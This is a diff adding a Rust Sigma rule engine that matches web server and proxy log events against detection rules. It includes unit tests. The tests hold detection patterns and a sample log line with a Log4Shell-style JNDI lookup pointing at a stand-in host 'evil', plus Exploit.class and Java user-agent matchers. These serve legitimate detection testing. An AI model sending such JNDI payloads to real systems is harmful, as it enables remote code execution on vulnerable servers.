@@ -1,0 +1,526 @@
+//! A native Sigma rule engine for web server and proxy logs.
+//!
+//! What it does: load Sigma rules from YAML text (every rule that cannot be
+//! loaded is an error naming the rule and the reason, never dropped
+//! silently), and decide whether an event matches, with the Sigma
+//! specification's detection semantics: field conditions (a map is AND, a
+//! list of maps is OR, a list of values is OR unless `|all`), keyword
+//! (full-text) searches, wildcards anchored to the whole value, escapes,
+//! case-insensitive matching unless `|cased`, the value modifiers of
+//! [`pattern`], and conditions ([`condition`]).
+//!
+//! What it does not do: read files or logs (the caller passes text and
+//! events), map a log format to fields (the caller's [`Event`] does), or
+//! correlation rules (reported as unsupported, by name).
+
+pub mod condition;
+pub mod pattern;
+
+use condition::Cond;
+use pattern::Matcher;
+use serde_yaml::Value;
+use std::borrow::Cow;
+
+/// What a rule is matched against.
+pub trait Event {
+    /// The value of a field (after the caller's field mapping), if any.
+    fn field(&self, name: &str) -> Option<Cow<'_, str>>;
+    /// The whole event as text (for keyword searches).
+    fn raw(&self) -> &str;
+}
+
+/// Why a rule could not be loaded.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error("{file}: rule {title:?}: {reason}")]
+pub struct LoadError {
+    pub file: String,
+    pub title: String,
+    pub reason: String,
+}
+
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct LogSource {
+    pub category: Option<String>,
+    pub product: Option<String>,
+    pub service: Option<String>,
+}
+
+#[derive(Debug, Clone)]
+struct FieldCond {
+    field: String,
+    matchers: Vec<Matcher>,
+    all: bool,
+    negate: bool,
+}
+
+impl FieldCond {
+    fn matches(&self, e: &dyn Event) -> bool {
+        let v = e.field(&self.field);
+        let v = v.as_deref();
+        let hit = if self.all {
+            self.matchers.iter().all(|m| m.matches(v))
+        } else {
+            self.matchers.iter().any(|m| m.matches(v))
+        };
+        hit != self.negate
+    }
+}
+
+#[derive(Debug, Clone)]
+enum Search {
+    /// OR of AND-groups of field conditions.
+    Fields(Vec<Vec<FieldCond>>),
+    Keywords {
+        matchers: Vec<Matcher>,
+        all: bool,
+    },
+}
+
+impl Search {
+    fn matches(&self, e: &dyn Event) -> bool {
+        match self {
+            Search::Fields(groups) => groups.iter().any(|g| g.iter().all(|c| c.matches(e))),
+            Search::Keywords { matchers, all } => {
+                let raw = Some(e.raw());
+                if *all {
+                    matchers.iter().all(|m| m.matches(raw))
+                } else {
+                    matchers.iter().any(|m| m.matches(raw))
+                }
+            }
+        }
+    }
+}
+
+/// A loaded rule.
+#[derive(Debug, Clone)]
+pub struct Rule {
+    pub file: String,
+    pub title: String,
+    pub id: String,
+    pub status: String,
+    pub level: String,
+    pub description: String,
+    pub author: String,
+    pub tags: Vec<String>,
+    pub references: Vec<String>,
+    pub logsource: LogSource,
+    searches: Vec<(String, Search)>,
+    conditions: Vec<Cond>,
+}
+
+impl Rule {
+    /// Whether the rule is for web server or proxy logs.
+    pub fn is_web(&self) -> bool {
+        matches!(
+            self.logsource.category.as_deref(),
+            Some("webserver" | "proxy")
+        )
+    }
+
+    /// Whether `e` matches (any of the rule's conditions).
+    pub fn matches(&self, e: &dyn Event) -> bool {
+        let mut cache: Vec<Option<bool>> = vec![None; self.searches.len()];
+        let mut hit = |id: &str| -> bool {
+            let Some(i) = self.searches.iter().position(|(n, _)| n == id) else {
+                return false;
+            };
+            *cache[i].get_or_insert_with(|| self.searches[i].1.matches(e))
+        };
+        self.conditions.iter().any(|c| c.eval(&mut hit))
+    }
+
+    /// Field names the rule reads.
+    pub fn fields(&self) -> Vec<&str> {
+        let mut v: Vec<&str> = self
+            .searches
+            .iter()
+            .filter_map(|(_, s)| match s {
+                Search::Fields(g) => Some(g.iter().flatten().map(|c| c.field.as_str())),
+                Search::Keywords { .. } => None,
+            })
+            .flatten()
+            .collect();
+        v.sort_unstable();
+        v.dedup();
+        v
+    }
+}
+
+fn scalar(v: &Value) -> Result<Option<String>, String> {
+    match v {
+        Value::Null => Ok(None),
+        Value::Bool(b) => Ok(Some(b.to_string())),
+        Value::Number(n) => Ok(Some(n.to_string())),
+        Value::String(s) => Ok(Some(s.clone())),
+        _ => Err("a value must be a string, number, boolean or null".into()),
+    }
+}
+
+fn values(v: &Value) -> Result<Vec<Option<String>>, String> {
+    match v {
+        Value::Sequence(s) => s.iter().map(scalar).collect(),
+        other => Ok(vec![scalar(other)?]),
+    }
+}
+
+fn field_cond(key: &str, v: &Value) -> Result<FieldCond, String> {
+    let mut parts = key.split('|');
+    let field = parts.next().unwrap_or("").to_string();
+    let mut mods: Vec<&str> = parts.collect();
+    let negate = mods.contains(&"neq");
+    mods.retain(|m| *m != "neq");
+    if field.is_empty() {
+        return Err(format!("{key:?}: a field name is needed"));
+    }
+    let vals = values(v)?;
+    if vals.is_empty() {
+        return Err(format!("{key:?}: an empty list of values"));
+    }
+    let (matchers, all) = pattern::build(&mods, &vals).map_err(|e| format!("{key:?}: {e}"))?;
+    Ok(FieldCond {
+        field,
+        matchers,
+        all,
+        negate,
+    })
+}
+
+fn and_group(m: &serde_yaml::Mapping) -> Result<Vec<FieldCond>, String> {
+    m.iter()
+        .map(|(k, v)| {
+            let k = k.as_str().ok_or("a field name must be a string")?;
+            field_cond(k, v)
+        })
+        .collect()
+}
+
+fn keywords(mods: &[&str], vals: &[Option<String>]) -> Result<Search, String> {
+    let mut m: Vec<&str> = mods.to_vec();
+    if !m.contains(&"contains") && !m.contains(&"re") {
+        m.push("contains");
+    }
+    let (matchers, all) = pattern::build(&m, vals)?;
+    Ok(Search::Keywords { matchers, all })
+}
+
+fn search(name: &str, v: &Value) -> Result<Search, String> {
+    let ctx = |e: String| format!("detection.{name}: {e}");
+    match v {
+        Value::Mapping(m) => {
+            // `'|all': [...]` (and other modifier-only keys): keywords.
+            if m.len() == 1 {
+                if let Some(k) = m.keys().next().and_then(Value::as_str) {
+                    if let Some(mods) = k.strip_prefix('|') {
+                        let mods: Vec<&str> = mods.split('|').collect();
+                        let vals = values(&m[k]).map_err(ctx)?;
+                        return keywords(&mods, &vals).map_err(ctx);
+                    }
+                }
+            }
+            Ok(Search::Fields(vec![and_group(m).map_err(ctx)?]))
+        }
+        Value::Sequence(s) if s.iter().all(|x| x.is_mapping()) && !s.is_empty() => {
+            let groups = s
+                .iter()
+                .filter_map(Value::as_mapping)
+                .map(and_group)
+                .collect::<Result<Vec<_>, _>>()
+                .map_err(ctx)?;
+            Ok(Search::Fields(groups))
+        }
+        Value::Sequence(s) => {
+            let vals = s
+                .iter()
+                .map(scalar)
+                .collect::<Result<Vec<_>, _>>()
+                .map_err(ctx)?;
+            if vals.is_empty() {
+                return Err(ctx("an empty list".into()));
+            }
+            keywords(&[], &vals).map_err(ctx)
+        }
+        other => {
+            let vals = vec![scalar(other).map_err(ctx)?];
+            keywords(&[], &vals).map_err(ctx)
+        }
+    }
+}
+
+fn text(doc: &Value, key: &str) -> String {
+    match doc.get(key) {
+        Some(Value::String(s)) => s.clone(),
+        Some(Value::Number(n)) => n.to_string(),
+        _ => String::new(),
+    }
+}
+
+fn list(doc: &Value, key: &str) -> Vec<String> {
+    match doc.get(key) {
+        Some(Value::Sequence(s)) => s
+            .iter()
+            .filter_map(|v| v.as_str().map(str::to_string))
+            .collect(),
+        Some(Value::String(s)) => vec![s.clone()],
+        _ => Vec::new(),
+    }
+}
+
+fn rule(doc: &Value, file: &str) -> Result<Rule, LoadError> {
+    let title = text(doc, "title");
+    let err = |reason: String| LoadError {
+        file: file.to_string(),
+        title: if title.is_empty() {
+            "(untitled)".into()
+        } else {
+            title.clone()
+        },
+        reason,
+    };
+    if title.is_empty() {
+        return Err(err("no title".into()));
+    }
+    if doc.get("correlation").is_some() {
+        return Err(err("correlation rules are not supported yet".into()));
+    }
+    let Some(Value::Mapping(det)) = doc.get("detection") else {
+        return Err(err("no detection section".into()));
+    };
+    let mut searches = Vec::new();
+    let mut conds_text: Vec<String> = Vec::new();
+    for (k, v) in det {
+        let k = k
+            .as_str()
+            .ok_or_else(|| err("a detection key is not a string".into()))?;
+        if k == "condition" {
+            match v {
+                Value::String(s) => conds_text.push(s.clone()),
+                Value::Sequence(s) => {
+                    conds_text.extend(s.iter().filter_map(|x| x.as_str().map(str::to_string)))
+                }
+                _ => return Err(err("detection.condition must be a string or a list".into())),
+            }
+            continue;
+        }
+        if k == "timeframe" {
+            return Err(err(
+                "'timeframe' (aggregation) is not supported; use a correlation rule".into(),
+            ));
+        }
+        searches.push((k.to_string(), search(k, v).map_err(err)?));
+    }
+    if conds_text.is_empty() {
+        return Err(err("detection.condition is missing".into()));
+    }
+    let ids: Vec<String> = searches.iter().map(|(n, _)| n.clone()).collect();
+    let conditions = conds_text
+        .iter()
+        .map(|c| {
+            condition::parse(c, &ids).map_err(|e| err(format!("detection.condition {c:?}: {e}")))
+        })
+        .collect::<Result<Vec<_>, _>>()?;
+    let ls = doc.get("logsource");
+    let lsf = |k: &str| {
+        ls.and_then(|l| l.get(k))
+            .and_then(Value::as_str)
+            .map(str::to_string)
+    };
+    Ok(Rule {
+        file: file.to_string(),
+        id: text(doc, "id"),
+        status: text(doc, "status"),
+        level: text(doc, "level"),
+        description: text(doc, "description"),
+        author: text(doc, "author"),
+        tags: list(doc, "tags"),
+        references: list(doc, "references"),
+        logsource: LogSource {
+            category: lsf("category"),
+            product: lsf("product"),
+            service: lsf("service"),
+        },
+        title,
+        searches,
+        conditions,
+    })
+}
+
+/// Load every rule document of a YAML file (documents separated by `---`).
+pub fn load(text_in: &str, file: &str) -> Vec<Result<Rule, LoadError>> {
+    let mut out = Vec::new();
+    for (i, d) in serde_yaml::Deserializer::from_str(text_in).enumerate() {
+        let doc = match <Value as serde::Deserialize>::deserialize(d) {
+            Ok(v) => v,
+            Err(e) => {
+                out.push(Err(LoadError {
+                    file: file.to_string(),
+                    title: format!("(document {})", i + 1),
+                    reason: format!("YAML: {e}"),
+                }));
+                // A syntax error ends the stream.
+                break;
+            }
+        };
+        if doc.is_null() {
+            continue;
+        }
+        out.push(rule(&doc, file));
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::HashMap;
+
+    struct Ev {
+        f: HashMap<&'static str, &'static str>,
+        raw: &'static str,
+    }
+    impl Event for Ev {
+        fn field(&self, n: &str) -> Option<Cow<'_, str>> {
+            self.f.get(n).map(|v| Cow::Borrowed(*v))
+        }
+        fn raw(&self) -> &str {
+            self.raw
+        }
+    }
+    fn ev(f: &[(&'static str, &'static str)], raw: &'static str) -> Ev {
+        Ev {
+            f: f.iter().copied().collect(),
+            raw,
+        }
+    }
+
+    fn one(y: &str) -> Rule {
+        load(y, "t.yml").remove(0).unwrap()
+    }
+
+    #[test]
+    fn fields_lists_and_conditions() {
+        let r = one(r#"
+title: t
+author: Someone
+level: high
+logsource: {category: webserver}
+detection:
+  sel:
+    cs-method: POST
+    cs-uri-query|contains:
+      - /wp-login
+      - /xmlrpc
+  filter:
+    sc-status: 404
+  _helper:
+    c-ip: 1.2.3.4
+  condition: sel and not filter
+"#);
+        assert!(r.is_web());
+        assert_eq!(r.author, "Someone");
+        assert!(r.matches(&ev(
+            &[
+                ("cs-method", "POST"),
+                ("cs-uri-query", "/xmlrpc.php"),
+                ("sc-status", "200")
+            ],
+            ""
+        )));
+        assert!(!r.matches(&ev(
+            &[
+                ("cs-method", "POST"),
+                ("cs-uri-query", "/xmlrpc.php"),
+                ("sc-status", "404")
+            ],
+            ""
+        )));
+        assert!(!r.matches(&ev(
+            &[("cs-method", "GET"), ("cs-uri-query", "/xmlrpc.php")],
+            ""
+        )));
+        assert_eq!(
+            r.fields(),
+            vec!["c-ip", "cs-method", "cs-uri-query", "sc-status"]
+        );
+    }
+
+    #[test]
+    fn list_of_maps_is_or_and_them_skips_underscore() {
+        let r = one(r#"
+title: t
+logsource: {category: proxy}
+detection:
+  sel:
+    - c-uri|endswith: '.class'
+    - c-useragent: 'Java/*'
+  _never:
+    c-ip: 9.9.9.9
+  condition: all of them
+"#);
+        assert!(r.matches(&ev(&[("c-uri", "/a/Exploit.class")], "")));
+        assert!(r.matches(&ev(&[("c-useragent", "Java/1.8")], "")));
+        assert!(!r.matches(&ev(&[("c-uri", "/a")], "")));
+    }
+
+    #[test]
+    fn keywords_and_all_keywords() {
+        let r = one(r#"
+title: t
+logsource: {category: webserver}
+detection:
+  keywords:
+    - '${jndi:ldap:/'
+    - '${jndi:rmi:/'
+  kw_all:
+    '|all':
+      - POST
+      - 200
+  condition: keywords or kw_all
+"#);
+        assert!(r.matches(&ev(&[], "GET /?x=${JNDI:ldap://evil} 200")));
+        assert!(r.matches(&ev(&[], "POST /a 200 12")));
+        assert!(!r.matches(&ev(&[], "POST /a 404 12")));
+    }
+
+    #[test]
+    fn unloadable_rules_are_named_with_the_reason() {
+        let bad = load(
+            "title: broken\nlogsource: {category: webserver}\ndetection:\n  sel:\n    a|expand: x\n  condition: sel\n---\ntitle: corr\ncorrelation:\n  type: event_count\n---\ntitle: nocond\ndetection:\n  sel: {a: b}\n",
+            "x.yml",
+        );
+        assert_eq!(bad.len(), 3);
+        let e: Vec<String> = bad
+            .into_iter()
+            .map(|r| r.unwrap_err().to_string())
+            .collect();
+        assert!(
+            e[0].contains("broken") && e[0].contains("expand"),
+            "{}",
+            e[0]
+        );
+        assert!(
+            e[1].contains("corr") && e[1].contains("correlation"),
+            "{}",
+            e[1]
+        );
+        assert!(e[2].contains("condition is missing"), "{}", e[2]);
+        let y = load("title: [unclosed\n", "y.yml");
+        assert!(y[0].as_ref().unwrap_err().reason.starts_with("YAML"));
+    }
+
+    #[test]
+    fn null_and_neq() {
+        let r = one(r#"
+title: t
+logsource: {category: webserver}
+detection:
+  sel:
+    cs-referer: null
+    sc-status|neq: 200
+  condition: sel
+"#);
+        assert!(r.matches(&ev(&[("sc-status", "500")], "")));
+        assert!(!r.matches(&ev(&[("sc-status", "200")], "")));
+        assert!(!r.matches(&ev(&[("sc-status", "500"), ("cs-referer", "http://x")], "")));
+    }
+}
